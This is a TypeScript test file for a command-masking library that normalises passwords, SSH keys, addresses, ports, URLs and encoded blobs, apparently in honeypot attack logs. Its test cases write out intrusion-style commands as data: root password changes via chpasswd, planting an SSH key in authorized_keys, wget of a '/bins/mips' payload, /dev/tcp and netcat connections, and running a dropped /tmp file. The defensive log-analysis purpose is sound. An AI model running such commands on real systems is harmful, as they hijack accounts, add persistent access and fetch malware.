import { describe, expect, test } from "bun:test";
import { maskCommand, sshKeysOf, urlHostOf } from "../../../lib/text/masks.ts";
import { seededRandom } from "../../support/random.ts";

const KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQDJ3tFq+1s/x9Kf0Pq2w7mZ0vYh==";

const CASES: { name: string; command: string; masked: string }[] = [
  { name: "nothing random", command: "uname -s -v -n -r -m", masked: "uname -s -v -n -r -m" },
  { name: "a path", command: "cat /proc/cpuinfo | wc -l", masked: "cat /proc/cpuinfo | wc -l" },
  { name: "chpasswd", command: 'echo "root:0hXc7tYfGk2L"|chpasswd', masked: 'echo "root:<password>"|chpasswd' },
  { name: "passwd", command: 'echo -e "123456\\nuQ8x\\nuQ8x"|passwd|bash', masked: 'echo -e "<password>"|passwd|bash' },
  {
    name: "an SSH key and its comment",
    command: `echo "ssh-rsa ${KEY} mdrfckr">>.ssh/authorized_keys`,
    masked: 'echo "ssh-rsa <key>">>.ssh/authorized_keys',
  },
  { name: "a URL keeps its path", command: "wget HTTP://1.2.3.4:80/bins/mips", masked: "wget http://<host>/bins/mips" },
  { name: "an address", command: "ping -c 1 10.20.30.40", masked: "ping -c 1 <ip>" },
  { name: "an address with a port", command: "curl 10.20.30.40:81/x", masked: "curl <ip>:<port>/x" },
  { name: "a socket of the shell", command: "exec 6<>/dev/tcp/10.2.3.4/6969", masked: "exec 6<>/dev/tcp/<ip>/<port>" },
  { name: "netcat", command: "nc 10.2.3.4 4444", masked: "nc <ip> <port>" },
  { name: "an IPv6 address", command: "ping6 2001:db8:0:1::25", masked: "ping6 <ip>" },
  { name: "two ports of an address", command: "nc 10.2.3.4 4444; nc 10.2.3.5 5555", masked: "nc <ip> <port>; nc <ip> <port>" },
  { name: "two ports asked for", command: "scan -p 22 -P 2323", masked: "scan -p <port> -P <port>" },
  { name: "a URL's user, port and case", command: "curl FTP://u:p@Host.EXAMPLE:2121/X", masked: "curl ftp://<host>/X" },
  { name: "every URL of a line", command: "curl http://a/x;curl tcp://b:1|cat <https://c>", masked: "curl http://<host>/x;curl tcp://<host>|cat <https://<host>>" },
  { name: "long words of small letters", command: "cat antidisestablishmentarianism", masked: "cat antidisestablishmentarianism" },
  { name: "long words of capitals", command: "echo ABCDEFGHIJKLMNOPQRSTUVWXYZABCD", masked: "echo ABCDEFGHIJKLMNOPQRSTUVWXYZABCD" },
  { name: "letters of both cases without a digit", command: "cat AntidisestablishmentArianism", masked: "cat AntidisestablishmentArianism" },
  { name: "a long path", command: "cat usr/Share/doc4/lib/x86/Abc/def/ghi/jkl", masked: "cat usr/Share/doc4/lib/x86/Abc/def/ghi/jkl" },
  { name: "padding tells base64", command: "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaa==", masked: "echo <base64>" },
  { name: "a busybox probe", command: "/bin/busybox XKQWP", masked: "/bin/busybox <name>" },
  { name: "an applet is no probe", command: "/bin/busybox wget", masked: "/bin/busybox wget" },
  { name: "few escaped bytes say something", command: "echo -e '\\x6F\\x6B'", masked: "echo -e '\\x6F\\x6B'" },
  { name: "many escaped bytes", command: `echo -ne '${"\\x7f".repeat(40)}'`, masked: "echo -ne '<bytes>'" },
  { name: "hexadecimal", command: "echo d41d8cd98f00b204e9800998ecf8427e", masked: "echo <hex>" },
  { name: "base64", command: "echo L2Jpbi9iYXNoIC1jICdpZCcK1aZq | base64 -d", masked: "echo <base64> | base64 -d" },
  { name: "a random file", command: "chmod +x /tmp/xK3j9aQ; /tmp/xK3j9aQ", masked: "chmod +x /tmp/<name>; /tmp/<name>" },
  { name: "a named file", command: "rm -rf /tmp/secure.sh", masked: "rm -rf /tmp/secure.sh" },
  { name: "a time stamp", command: "touch -d @1700000000 x", masked: "touch -d @<number> x" },
  { name: "a version is no number", command: "echo 2.6.32-754", masked: "echo 2.6.32-754" },
  { name: "empty", command: "", masked: "" },
  { name: "control characters stay", command: "a\u0000b\u001b[2J", masked: "a\u0000b\u001b[2J" },
];

describe("maskCommand", () => {
  test.each(CASES)("$name", ({ command, masked }) => {
    expect(maskCommand(command)).toBe(masked);
  });

  test("masking twice is masking once", () => {
    for (const { command } of CASES) expect(maskCommand(maskCommand(command))).toBe(maskCommand(command));
    const pieces = ["echo ", "root:", "|chpasswd", "1.2.3.4", ":80", " ", "/tmp/", "aB3dE5fG", "http://", "\\x41", "="];
    for (let seed = 1; seed <= 300; seed++) {
      const random = seededRandom(seed);
      let command = "";
      for (let i = random.int(12); i >= 0; i--) {
        command += random.chance(0.7) ? random.pick(pieces) : random.hex(random.int(40));
      }
      const once = maskCommand(command);
      expect({ seed, command, masked: maskCommand(once) }).toEqual({ seed, command, masked: once });
    }
  });

  test("random passwords of one campaign become one command", () => {
    const masked = new Set<string>();
    for (let seed = 1; seed <= 50; seed++) {
      const random = seededRandom(seed);
      masked.add(maskCommand(`echo "root:${random.hex(6)}${random.int(1e6)}"|chpasswd|bash`));
    }
    expect([...masked]).toEqual(['echo "root:<password>"|chpasswd|bash']);
  });

  test("a very long command keeps its length apart", () => {
    expect(maskCommand(`echo ${"z ".repeat(20_000)}`).slice(-18)).toBe(" z z z<23621 more>");
  });
});

test("sshKeysOf finds each key once, without comments", () => {
  const other = KEY.replace("AQAB", "AQAC");
  expect(sshKeysOf(`echo ssh-rsa ${KEY} a >> k; echo ssh-rsa ${KEY} b; echo ssh-ed25519 ${other}`)).toEqual([
    `ssh-rsa ${KEY}`,
    `ssh-ed25519 ${other}`,
  ]);
  expect(sshKeysOf("ssh-keygen -t rsa")).toEqual([]);
});

const HOSTS: { url: string; host: string | undefined }[] = [
  { url: "http://Example.ORG:8080/a", host: "example.org" },
  { url: "ftp://anonymous:x@1.2.3.4/a", host: "1.2.3.4" },
  { url: "http://[2001:DB8::1]:80/", host: "[2001:db8::1]" },
  { url: "http://a.b?x@c", host: "a.b" },
  { url: "tftp://host", host: "host" },
  { url: "/tmp/file", host: undefined },
  { url: "", host: undefined },
  { url: "javascript:alert(1)", host: undefined },
];
test.each(HOSTS)("urlHostOf($url)", ({ url, host }) => {
  expect(urlHostOf(url)).toBe(host);
});
